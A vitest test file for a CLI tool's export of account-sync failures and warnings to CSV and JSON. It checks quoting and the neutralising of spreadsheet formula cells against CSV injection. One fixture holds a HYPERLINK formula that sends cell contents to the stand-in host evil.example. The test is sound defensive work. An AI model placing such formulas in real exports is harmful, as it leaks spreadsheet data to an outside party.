import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { FAILURE_COLUMNS, formatFailures, neutraliseFormula } from '../../../src/cli/sync/failure-export';
import type { RecordFailure, RecordWarning } from '../../../src/domain/record-failure';

const failures: RecordFailure[] = [
  {
    accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3301',
    accountNumber: 'ACC-01001-ABCDEF',
    company: 'usmf',
    field: 'name',
    value: 'Contoso, "The" Company\nLine two',
    code: 'TOO_LONG',
    reason: "Account 'ACC-01001-ABCDEF': name is longer than 100 characters, ümlauts and all",
  },
  { accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3302', code: 'MISSING_ACCOUNT_NUMBER', reason: 'no number' },
];

const warnings: RecordWarning[] = [
  {
    accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3305',
    accountNumber: 'ACC-01005',
    company: 'demf',
    field: 'name',
    value: 'Fabrikam Holdings International',
    written: 'Fabrikam',
    code: 'TRUNCATED',
    reason: "Account 'ACC-01005': name is 31 characters; OrganizationName allows at most 8",
  },
  { accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3306', field: 'address1_stateorprovince', value: 'Atlantis', code: 'STATE_OMITTED', reason: 'left out' },
];

describe('failure export', () => {
  it('writes CSV with a header and quoting that survives commas, quotes and line breaks', () => {
    const csv = formatFailures(failures, 'csv');
    expect(csv.split('\n')[0]).toBe('severity,accountId,accountNumber,company,field,value,written,code,reason');
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows).toEqual([
      {
        severity: 'failure',
        accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3301',
        accountNumber: 'ACC-01001-ABCDEF',
        company: 'usmf',
        field: 'name',
        value: 'Contoso, "The" Company\nLine two',
        written: '',
        code: 'TOO_LONG',
        reason: "Account 'ACC-01001-ABCDEF': name is longer than 100 characters, ümlauts and all",
      },
      { severity: 'failure', accountId: failures[1]?.accountId, accountNumber: '', company: '', field: '', value: '', written: '', code: 'MISSING_ACCOUNT_NUMBER', reason: 'no number' },
    ]);
  });

  it('lists warnings after failures, marked as warnings, with the value received and the value written', () => {
    const rows = parse(formatFailures(failures, 'csv', warnings), { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => row.severity)).toEqual(['failure', 'failure', 'warning', 'warning']);
    expect(rows[2]).toEqual({
      severity: 'warning',
      accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3305',
      accountNumber: 'ACC-01005',
      company: 'demf',
      field: 'name',
      value: 'Fabrikam Holdings International',
      written: 'Fabrikam',
      code: 'TRUNCATED',
      reason: "Account 'ACC-01005': name is 31 characters; OrganizationName allows at most 8",
    });
    expect(rows[3]).toMatchObject({ severity: 'warning', field: 'address1_stateorprovince', value: 'Atlantis', written: '', code: 'STATE_OMITTED' });
    expect(JSON.parse(formatFailures([], 'json', warnings))).toEqual([
      { severity: 'warning', ...warnings[0] },
      { severity: 'warning', accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3306', field: 'address1_stateorprovince', value: 'Atlantis', code: 'STATE_OMITTED', reason: 'left out' },
    ]);
  });

  it('writes JSON as an array of the records, each marked failure or warning', () => {
    expect(JSON.parse(formatFailures(failures, 'json'))).toEqual([
      { severity: 'failure', ...failures[0] },
      { severity: 'failure', accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3302', code: 'MISSING_ACCOUNT_NUMBER', reason: 'no number' },
    ]);
    expect(formatFailures([], 'csv')).toBe(`${FAILURE_COLUMNS.join(',')}\n`);
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection), in CSV only', () => {
    const hostile: RecordFailure[] = [
      {
        accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3303',
        accountNumber: '@SUM(A1:A9)',
        field: 'name',
        value: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        code: 'TOO_LONG',
        reason: '+1 more',
      },
      { accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3304', accountNumber: '-2+3', field: 'telephone1', value: '\tcmd', code: 'FNO_REJECTED', reason: '\rX' },
    ];
    const rows = parse(formatFailures(hostile, 'csv'), { columns: true }) as Record<string, string>[];
    expect(rows).toEqual([
      {
        severity: 'failure',
        accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3303',
        accountNumber: "'@SUM(A1:A9)",
        company: '',
        field: 'name',
        value: `'=HYPERLINK("https://evil.example/?x="&A1,"Click")`,
        written: '',
        code: 'TOO_LONG',
        reason: "'+1 more",
      },
      { severity: 'failure', accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3304', accountNumber: "'-2+3", company: '', field: 'telephone1', value: "'\tcmd", written: '', code: 'FNO_REJECTED', reason: "'\rX" },
    ]);
    expect(JSON.parse(formatFailures(hostile, 'json'))).toEqual(hostile.map((failure) => ({ severity: 'failure', ...failure })));
    const written = parse(formatFailures([], 'csv', [{ ...warnings[1]!, written: '=cmd' }]), { columns: true }) as Record<string, string>[];
    expect(written[0]?.written).toBe("'=cmd");
    for (const safe of ['ACC-1', 'a=b', ' =x', '', "'quoted"]) expect(neutraliseFormula(safe)).toBe(safe);
  });
});
